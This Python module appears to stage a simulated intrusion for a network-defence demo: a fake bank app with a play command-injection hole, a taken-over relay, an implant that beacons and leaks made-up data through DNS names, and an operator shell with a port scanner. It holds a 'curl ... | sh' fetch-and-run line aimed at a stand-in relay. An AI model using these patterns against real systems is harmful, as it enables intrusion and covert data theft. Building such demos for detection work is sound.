# SPDX-License-Identifier: Apache-2.0
"""The roles. Each runs in a namespace of its own as `demo/record --role NAME ARG...`.

A role says "ready" on its standard output when it can be reached and "event TEXT" when something happens that
belongs in the timeline. What looks like an attack is a play: nothing typed at the bank is ever run.
"""
import base64
import http.client
import http.server
import random
import select
import signal
import socket
import socketserver
import struct
import sys
import threading
import time
import urllib.parse

from stage.net import offloads_off

RELAY, BANK, DNS_B, WEB_B = "198.51.100.7", "203.0.113.10", "198.51.100.53", "198.51.100.80"
NAMES = {"www.harbour-news.example": WEB_B, "ticker.harbour-news.example": WEB_B, "online.bank-of-c.example": BANK}
LEAK = "t.tide-metrics.example"
BEACONS, BEACON_S = 14, 4.0
QUERIES = 96

# The implant's "script": what the relay hands out, and it does what it says.
HERON = b"#!/bin/sh\n# heron 1.4 stage - a prop of the dewline demo, does nothing\nheron_id=7f3a91c2\nexit 0\n"

ANSWERS = {
    "id": "uid=33(tellerdesk) gid=33(tellerdesk) groups=33(tellerdesk)",
    "hostname": "teller-web-1",
    "uname -a": "Linux teller-web-1 6.1.0-made-up #1 SMP x86_64 GNU/Linux",
    "ls /srv/tellerdesk": "branches.csv\nledger.csv\ntellerdesk.conf",
    "cat /srv/tellerdesk/tellerdesk.conf": "db = /srv/tellerdesk/ledger.csv\nnightly = 02:30\nkey = not-a-real-key",
    "wc -l /srv/tellerdesk/ledger.csv": "48213 /srv/tellerdesk/ledger.csv",
    "head -3 /srv/tellerdesk/ledger.csv": "account,owner,balance\n000-made-up-1,Nobody,0.00\n000-made-up-2,No One,0.00",
    "date": "Sun Nov 22 00:00:00 UTC 2026",
}
DROP = f"curl -s http://{RELAY}:8080/u/heron.sh|sh"


def say(text):
    print(text, flush=True)


# ---- HTTP, both sides ----


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version, sys_version = "httpd", ""
    wbufsize = -1  # head and body of an answer in one piece

    def version_string(self):
        return self.server_version

    def answer(self, status, body, kind="text/html; charset=utf-8"):
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def body(self):
        return self.rfile.read(int(self.headers.get("Content-Length", "0")))

    def log_message(self, *args):
        pass


def serve_http(handler, port):
    class Server(http.server.ThreadingHTTPServer):
        daemon_threads = True
    server = Server(("", port), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def fetch(host, path, port=80, name=None, method="GET", body=None, agent="Mozilla/5.0 (X11; Linux x86_64)", more=None):
    """One request on a connection of its own: status and body."""
    c = http.client.HTTPConnection(host, port, timeout=10)
    try:
        c.request(method, path, body, {"Host": name or host, "User-Agent": agent, "Accept": "*/*", **(more or {})})
        r = c.getresponse()
        return r.status, r.read()
    finally:
        c.close()


def page(title, seed, words):
    """A page of made-up text, the same for the same seed."""
    pick = random.Random(seed)
    stock = ("harbour tide ferry bridge market morning weather council river timber lantern ledger station gull rope "
             "quay winter cargo signal chart pilot north anchor lamp").split()
    text = " ".join(pick.choice(stock) for _ in range(words))
    return f"<!doctype html><title>{title}</title><h1>{title}</h1><p>{text}.</p>\n".encode()


# ---- DNS, both sides (RFC 1035) ----


def dns_query(number, name, kind=1):
    labels = b"".join(struct.pack("B", len(p)) + p.encode() for p in name.split("."))
    return struct.pack(">HHHHHH", number, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def dns_answer(query, address):
    """The answer to a query of ours: one A record, or NXDOMAIN without an address."""
    end = 12
    while query[end]:
        end += 1 + query[end]
    question = query[12:end + 5]
    head = query[:2] + struct.pack(">HHHHH", 0x8180 if address else 0x8183, 1, 1 if address else 0, 0, 0)
    record = struct.pack(">HHHIH", 0xC00C, 1, 1, 30, 4) + socket.inet_aton(address) if address else b""
    return head + question + record


def dns_name(query):
    labels, at = [], 12
    while query[at]:
        labels.append(query[at + 1:at + 1 + query[at]].decode("ascii", "replace"))
        at += 1 + query[at]
    return ".".join(labels)


def serve_dns(address_of):
    class Query(socketserver.BaseRequestHandler):
        def handle(self):
            data, sock = self.request
            sock.sendto(dns_answer(data, address_of(dns_name(data))), self.client_address)
    server = socketserver.UDPServer(("", 53), Query)
    threading.Thread(target=server.serve_forever, daemon=True).start()


def look_up(server, name):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.sendto(dns_query(random.getrandbits(16), name), (server, 53))
        return s.recvfrom(512)[0]


# ---- party C: the bank's web application, with a hole, and what comes through it ----


class Teller(Handler):
    server_version = "TellerDesk/3.2"
    implant = threading.Lock()

    def report(self, branch):
        number, hole, command = branch.partition(";")
        text = f"Branch {number}: 214 movements today, 3 waiting for a signature.\n"
        if hole:
            text += self.fake(command.strip()) + "\n"
        self.answer(200, text.encode(), "text/plain")

    def fake(self, command):
        if command == DROP:
            if self.implant.acquire(blocking=False):
                threading.Thread(target=implant, daemon=True).start()
            return ""
        return ANSWERS.get(command, f"sh: {command.split(' ')[0]}: not found")

    def do_GET(self):
        path, _, query = self.path.partition("?")
        if path == "/tellerdesk/report":
            self.report(urllib.parse.parse_qs(query).get("branch", [""])[0])
        elif path in ("/", "/branches", "/rates", "/tellerdesk/"):
            self.answer(200, page("Bank of C" if path != "/tellerdesk/" else "TellerDesk 3.2", path, 70))
        elif path == "/robots.txt":
            self.answer(200, b"User-agent: *\nDisallow: /tellerdesk/\n", "text/plain")
        else:
            self.answer(404, page("Not here", path, 20))

    def do_POST(self):
        fields = urllib.parse.parse_qs(self.body().decode("utf-8", "replace"))
        if self.path == "/tellerdesk/report":
            self.report(fields.get("branch", [""])[0])
        else:
            self.answer(404, page("Not here", self.path, 20))


def implant():
    """Fetches its stage, then reports home at an even pace and carries made-up data out in DNS names."""
    rhythm = random.Random(1404)
    status, stage = fetch(RELAY, "/u/heron.sh", 8080, agent="curl/7.88.1")
    say(f"event the bank's host fetched the implant's stage from the relay (status {status}, {len(stage)} bytes)")
    leak = threading.Timer(7, exfiltrate)
    leak.start()
    start = time.monotonic()
    for n in range(BEACONS):
        time.sleep(max(0.0, start + n * BEACON_S + rhythm.uniform(-0.12, 0.12) - time.monotonic()))
        fetch(RELAY, "/q/heron", 8080, "cdn-metrics.example", "POST", f"id=7f3a91c2&n={n}&st=idle", "Heron/1.4",
              {"Content-Type": "application/x-www-form-urlencoded"})
        if n in (0, BEACONS - 1):
            say(f"event beacon {n + 1} of {BEACONS} from the bank's host to the relay")
    leak.join()
    say("done")


def exfiltrate():
    rhythm = random.Random(53)
    for n in range(QUERIES):
        label = base64.b32encode(rhythm.randbytes(30)).decode().lower().rstrip("=")
        look_up(RELAY, f"{label}.{n:x}.{LEAK}")
        if n in (0, QUERIES - 1):
            say(f"event name {n + 1} of {QUERIES} under {LEAK} asked by the bank's host at the relay")
        time.sleep(rhythm.uniform(0.2, 0.65))


# ---- party B: the relay that was taken over, and two honest servers ----


class Perch(Handler):
    """Where the implant reports."""
    server_version = "nginx"

    def do_GET(self):
        ok = self.path == "/u/heron.sh"
        self.answer(200 if ok else 404, HERON if ok else b"", "application/x-sh" if ok else "text/plain")

    def do_POST(self):
        self.body()
        self.answer(200, b"ok:0", "text/plain")


class News(Handler):
    server_version = "nginx"

    def do_GET(self):
        if self.headers.get("Host", "").startswith("ticker."):
            self.answer(200, b'{"tide":"rising","cm":112}', "application/json")
        else:
            self.answer(200, page("Harbour News", self.path, 60 + 31 * (len(self.path) % 7)))


class Shell:
    """What a login at the relay finds: six words, none of which runs anything on this machine."""

    NOTES = "to do: renew the certificate, clean /var/tmp, ask for more disk"

    def run(self):
        signal.signal(signal.SIGHUP, signal.SIG_DFL)
        while True:
            line = self.ask("relay$ ")
            if line is None or line == "exit":
                return
            words = line.split(" ")
            try:
                self.words.get(words[0], Shell.unknown)(self, *words[1:])
            except (OSError, http.client.HTTPException, TypeError) as e:
                print(f"{words[0]}: {e}")

    @staticmethod
    def ask(prompt):
        print(prompt, end="", flush=True)
        line = sys.stdin.readline()
        return line.strip() if line else None

    def unknown(self, *args):
        print("not found")

    def ls(self, *args):
        print("get  notes.txt  scan  shell")

    def cat(self, *args):
        print(self.NOTES)

    def status(self):
        for name in ("disk", "mail", "web", "backup"):
            print(f"{name:8} {random.choice(['fine', 'fine', 'slow'])} {random.randrange(100):3} %")

    def scan(self, host):
        """Tries 120 ports, each once, in a random order."""
        ports = random.Random(host).sample(range(1, 10000), 108) + [21, 22, 23, 25, 80, 110, 139, 443, 445, 3306, 3389, 8080]
        random.Random(7).shuffle(ports)
        tries = {}
        for port in ports:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.setblocking(False)
            s.connect_ex((host, port))
            tries[s] = port
            select.select([], [], [], 0.01)
        end = time.monotonic() + 2
        waiting = list(tries)
        while waiting and time.monotonic() < end:
            for s in select.select([], waiting, [], 0.2)[1]:
                waiting.remove(s)
                if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                    print(f"{host} {tries[s]}/tcp open")
        for s in tries:
            s.close()

    def get(self, url):
        u = urllib.parse.urlsplit(url)
        status, body = fetch(u.hostname, urllib.parse.urlunsplit(("", "", u.path or "/", u.query, "")), u.port or 80,
                             agent="get/1.0")
        print(status, len(body), "bytes")
        print(body[:160].decode("utf-8", "replace"))

    def shell(self, host):
        """Types through the hole: one connection, one request a command."""
        c = http.client.HTTPConnection(host, timeout=10)
        try:
            while (line := self.ask("bank$ ")) not in (None, "quit"):
                body = "branch=12" + urllib.parse.quote(";" + line, safe="")
                c.request("POST", "/tellerdesk/report", body, {"User-Agent": "get/1.0", "Accept": "*/*",
                                                               "Content-Type": "application/x-www-form-urlencoded"})
                print(c.getresponse().read().decode("utf-8", "replace").partition("\n")[2], end="")
        finally:
            c.close()

    words = {"ls": ls, "cat": cat, "status": status, "./scan": scan, "./get": get, "./shell": shell}


# ---- everybody else ----


def visit(seed, mean, *targets):
    """Looks a name up and reads a page, again and again. Targets are name/path. People pause now short, now long, so
    the pauses are exponential, `mean` seconds on average."""
    pace = random.Random(seed)
    say("ready")
    while True:
        time.sleep(0.4 + pace.expovariate(1 / float(mean)))
        name, _, path = pace.choice(targets).partition("/")
        look_up(DNS_B, name)
        fetch(NAMES[name], "/" + path.replace("*", str(pace.randrange(1, 40))), name=name)
        if pace.random() < 0.2:
            look_up(DNS_B, pace.choice(["mail", "time", "cdn", "login"]) + "." + name.partition(".")[2])


def rest():
    say("ready")
    while True:
        signal.pause()


def bank():
    serve_http(Teller, 80)
    rest()


def relay():
    serve_http(Perch, 8080)
    serve_dns(lambda name: RELAY if name.endswith("." + LEAK) else None)
    rest()


def news():
    serve_http(News, 80)
    rest()


def names():
    serve_dns(NAMES.get)
    rest()


ROLES = {"bank": bank, "relay": relay, "news": news, "names": names, "visit": visit, "relay-shell": Shell().run,
         "offloads-off": lambda *interfaces: offloads_off(interfaces)}


def perform(args):
    ROLES[args[0]](*args[1:])
    return 0
